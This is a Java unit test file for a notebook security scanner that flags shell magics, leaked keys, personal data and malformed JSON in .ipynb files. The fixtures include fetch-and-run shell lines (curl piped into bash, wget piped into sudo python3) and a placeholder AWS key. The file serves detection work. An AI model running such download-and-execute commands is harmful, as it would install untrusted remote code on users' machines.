package io.sentrascan.scanner.format.notebook;

import static io.sentrascan.testing.FormatFixtures.scanFile;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.sentrascan.scanner.FileResult;
import io.sentrascan.scanner.Finding;
import io.sentrascan.scanner.Probe;
import io.sentrascan.scanner.ScanEngine;
import io.sentrascan.scanner.Severity;
import io.sentrascan.scanner.Sources;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;

class NotebookScannerTest {
  static final Path FIXTURES = Path.of("src/test/resources/fixtures/notebook");
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String AWS_ID = "AKIA" + "QX3RT7ZL2MNB5VWK";

  private static FileResult scan(String json) {
    return ScanEngine.defaults()
        .scanSource(Sources.bytes(json.getBytes(StandardCharsets.UTF_8), "nb.ipynb"))
        .get(0);
  }

  private static FileResult fixture(String name) throws IOException {
    return scanFile(FIXTURES.resolve(name));
  }

  /** A notebook with the given cells; each cell is (type, source, outputs or null). */
  private static String notebook(String language, ObjectNode... cells) {
    ObjectNode root = JSON.createObjectNode();
    ArrayNode array = root.putArray("cells");
    for (ObjectNode c : cells) {
      array.add(c);
    }
    root.putObject("metadata").putObject("language_info").put("name", language);
    root.put("nbformat", 4).put("nbformat_minor", 5);
    return root.toString();
  }

  private static ObjectNode cell(String type, String source, ObjectNode... outputs) {
    ObjectNode c = JSON.createObjectNode().put("cell_type", type);
    ArrayNode lines = c.putArray("source");
    for (String line : source.split("(?<=\n)")) {
      lines.add(line);
    }
    ArrayNode out = c.putArray("outputs");
    for (ObjectNode o : outputs) {
      out.add(o);
    }
    return c;
  }

  private static ObjectNode stream(String text) {
    return JSON.createObjectNode()
        .put("output_type", "stream")
        .put("name", "stdout")
        .put("text", text);
  }

  @Test
  void codeCellsAreAnalysedLikePythonWithMagicsTakenOut() {
    FileResult file =
        scan(
            notebook(
                "python",
                cell("code", "%matplotlib inline\n!ls -la\nimport os\nos.system('id')\n")));
    assertThat(file.scanner()).isEqualTo("notebook");
    assertThat(file.findings())
        .extracting(Finding::ruleId, f -> f.location().context())
        .containsExactly(
            org.assertj.core.groups.Tuple.tuple("NB-001", "cells[0] line 2, column 1"),
            org.assertj.core.groups.Tuple.tuple("PY-002", "cells[0] line 4, column 1"));
  }

  @Test
  void downloadsPipedIntoAShellAreHigh() {
    FileResult file =
        scan(
            notebook(
                "python",
                cell("code", "!pip install torch\n"),
                cell("code", "%%bash\nbash <(curl -s https://get.example.net/i.sh)\n"),
                cell("code", "!wget -qO- http://x.example.net/a | sudo python3\n")));
    assertThat(file.findings())
        .filteredOn(f -> f.ruleId().equals("NB-002"))
        .extracting(f -> f.location().context())
        .containsExactly("cells[1] line 2, column 1", "cells[2] line 1, column 1");
    assertThat(file.findings())
        .filteredOn(f -> f.ruleId().equals("NB-001"))
        .allMatch(f -> f.severity() == Severity.LOW)
        .hasSize(3);
  }

  @Test
  void outputsAndMarkdownAreSearchedButImagesAreNot() {
    ObjectNode image = JSON.createObjectNode().put("output_type", "display_data");
    image
        .putObject("data")
        .put("image/png", AWS_ID)
        .put("text/html", "<b>contact jane.doe@university.edu</b>");
    ObjectNode error =
        JSON.createObjectNode()
            .put("output_type", "error")
            .put("ename", "KeyError")
            .put("evalue", "bad key");
    error.putArray("traceback").add("line 1").add("key was " + AWS_ID);
    FileResult file =
        scan(
            notebook(
                "python",
                cell("markdown", "Contact +44 20 7946 0958\n"),
                cell("code", "print(1)\n", stream("ok\n"), image, error)));
    assertThat(file.findings())
        .extracting(Finding::ruleId, f -> f.location().context())
        .containsExactly(
            org.assertj.core.groups.Tuple.tuple("PII-002", "cells[0] line 1, column 9"),
            org.assertj.core.groups.Tuple.tuple(
                "PII-001", "cells[1].outputs[1] text/html line 1, column 12"),
            org.assertj.core.groups.Tuple.tuple("SEC-001", "cells[1].outputs[2] line 3, column 9"));
    assertThat(file.findings()).allSatisfy(f -> assertThat(f.toString()).doesNotContain(AWS_ID));
  }

  @Test
  void colourCodesInTracebacksDoNotHideKeys() {
    ObjectNode error =
        JSON.createObjectNode()
            .put("output_type", "error")
            .put("ename", "KeyError")
            .put("evalue", "x");
    error.putArray("traceback").add("\u001b[0;31mKeyError\u001b[0m" + AWS_ID + "\u001b[0m");
    FileResult file = scan(notebook("python", cell("code", "f()\n", error)));
    assertThat(file.findings())
        .extracting(Finding::ruleId, f -> f.location().context())
        .containsExactly(
            org.assertj.core.groups.Tuple.tuple(
                "SEC-001", "cells[0].outputs[0] line 2, column 20"));
  }

  @Test
  void codeOfOtherKernelsIsNotReadAsPython() {
    FileResult file = scan(notebook("r", cell("code", "eval(parse(text = x))\n")));
    assertThat(file.findings()).isEmpty();
    assertThat(file.properties().get("notebook.language")).containsExactly("r");
  }

  @Test
  void brokenOrHostileJsonIsMalformedNotAnException() {
    FileResult truncated = scan("{\"cells\": [{\"cell_type\": \"code\", \"source\": \"x");
    assertThat(truncated.findings()).extracting(Finding::ruleId).containsExactly("CORE-001");
    String deep = "{\"cells\": [" + "[".repeat(5000) + "]".repeat(5000) + "], \"nbformat\": 4}";
    FileResult nested = scan(deep);
    assertThat(nested.findings()).extracting(Finding::ruleId).containsExactly("CORE-001");
    FileResult noCells =
        ScanEngine.defaults()
            .scanSource(
                Sources.bytes(
                    "{\"cells\": 3, \"nbformat\": 4}".getBytes(StandardCharsets.UTF_8), "x.ipynb"))
            .get(0);
    assertThat(noCells.findings()).extracting(Finding::ruleId).containsExactly("CORE-001");
  }

  @Test
  void detectedByContentNotClaimingOtherJson() throws IOException {
    NotebookScanner scanner = new NotebookScanner();
    assertThat(scanner.supports(probe("a.json", "{\"cells\": [{\"cell_type\": \"code\"}]}")))
        .isTrue();
    assertThat(scanner.supports(probe("config.json", "{\"architectures\": [\"X\"]}"))).isFalse();
    assertThat(scanner.supports(probe("tokenizer.json", "{\"version\": \"1.0\", \"cells\": 1}")))
        .isFalse();
  }

  @Test
  void theFixturesGetTheirRulesWithLocations() throws IOException {
    FileResult aws = fixture("malicious-aws-key-output.ipynb");
    assertThat(aws.findings())
        .filteredOn(f -> f.ruleId().equals("SEC-002"))
        .singleElement()
        .satisfies(
            f -> {
              assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
              assertThat(f.location().context()).startsWith("cells[2].outputs[0]");
            });
    FileResult benign = fixture("benign-training.ipynb");
    assertThat(benign.findings()).extracting(Finding::ruleId).containsExactly("NB-001");
    assertThat(benign.properties().get("notebook.nbformat")).containsExactly("4.5");
  }

  private static Probe probe(String name, String content) throws IOException {
    return Probe.of(Sources.bytes(content.getBytes(StandardCharsets.UTF_8), name));
  }
}
